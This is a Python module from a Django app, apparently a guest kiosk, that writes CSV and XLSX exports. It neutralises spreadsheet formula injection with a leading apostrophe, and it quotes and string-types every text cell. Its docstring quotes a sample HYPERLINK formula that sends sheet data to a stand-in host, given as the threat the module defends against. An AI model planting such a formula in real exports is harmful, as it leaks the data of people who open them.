"""The one way the app writes a cell of an export: CSV (streamed or to a file) and XLSX.

A guest types their name at the kiosk or on /daftar/; a spreadsheet that opens the export runs any
cell that starts with = + - @ (or a tab or carriage return before one) as a formula, so
`=HYPERLINK("http://x.example/?d="&A1,"klik")` would send the sheet's data away. Every text cell of
every export goes through `safe_cell`, which neutralises such text the OWASP way (a leading
apostrophe); CSV quotes every text cell, so a semicolon inside one (the list separator of an
Indonesian Excel) never starts a new cell; XLSX writes text as strings, never as formulas.
Numbers, dates and empty cells are written as they are.
"""

import csv
from collections.abc import Iterable, Iterator
from datetime import date, datetime, time
from decimal import Decimal
from io import BytesIO

from django.http import HttpResponse, StreamingHttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # spreadsheet programs then read a CSV as UTF-8
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOLD = Font(bold=True)
PLAIN_VALUES = (bool, int, float, Decimal, date, datetime, time)


def safe_cell(value):
    """The value as an export writes it: text a spreadsheet would run as a formula becomes plain text."""
    if value is None or isinstance(value, PLAIN_VALUES):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def safe_row(values: Iterable) -> list:
    return [safe_cell(value) for value in values]


# --- CSV -------------------------------------------------------------------------------------------


class _Echo:
    """A file-like object whose write() hands the line back, for csv.writer in a streaming response."""

    def write(self, value):
        return value


def _writer(file):
    # Every text cell quoted (numbers stay bare): a ";" inside one never splits it, whatever the
    # spreadsheet's list separator.
    return csv.writer(file, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")


def csv_lines(rows: Iterable[Iterable]) -> Iterator[str]:
    """Each row as one CSV line, after a byte-order mark; rows may be a generator (a year of steps)."""
    writer = _writer(_Echo())
    yield BOM
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_response(rows: Iterable[Iterable], filename: str) -> StreamingHttpResponse:
    """The rows as a CSV download, streamed so that a large export never sits in memory."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def write_csv(file, rows: Iterable[Iterable]) -> None:
    """The rows as CSV into an open text file (a management command's stdout), without a BOM."""
    writer = _writer(file)
    for row in rows:
        writer.writerow(safe_row(row))


# --- XLSX ------------------------------------------------------------------------------------------


def as_text(cell) -> None:
    """Keep text text: openpyxl stores a string that starts with "=" as a live formula otherwise."""
    if isinstance(cell.value, str):
        cell.data_type = "s"


def xlsx_cell(sheet, value, *, bold: bool = False) -> WriteOnlyCell:
    """One cell for a write-only sheet (sheet.append): neutralised, text as a string."""
    cell = WriteOnlyCell(sheet, value=safe_cell(value))
    as_text(cell)
    if bold:
        cell.font = BOLD
    return cell


def xlsx_row(sheet, values: Iterable, *, bold: bool = False) -> list[WriteOnlyCell]:
    return [xlsx_cell(sheet, value, bold=bold) for value in values]


def append_row(sheet, values: Iterable, *, bold: bool = False) -> int:
    """Append one row to an ordinary sheet, every cell neutralised and text kept as text; its row number."""
    sheet.append(safe_row(values))
    row = sheet.max_row
    for cell in sheet[row]:
        as_text(cell)
        if bold:
            cell.font = BOLD
    return row


def xlsx_bytes(book: Workbook) -> bytes:
    buffer = BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def xlsx_response(content: bytes, filename: str) -> HttpResponse:
    response = HttpResponse(content, content_type=XLSX_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
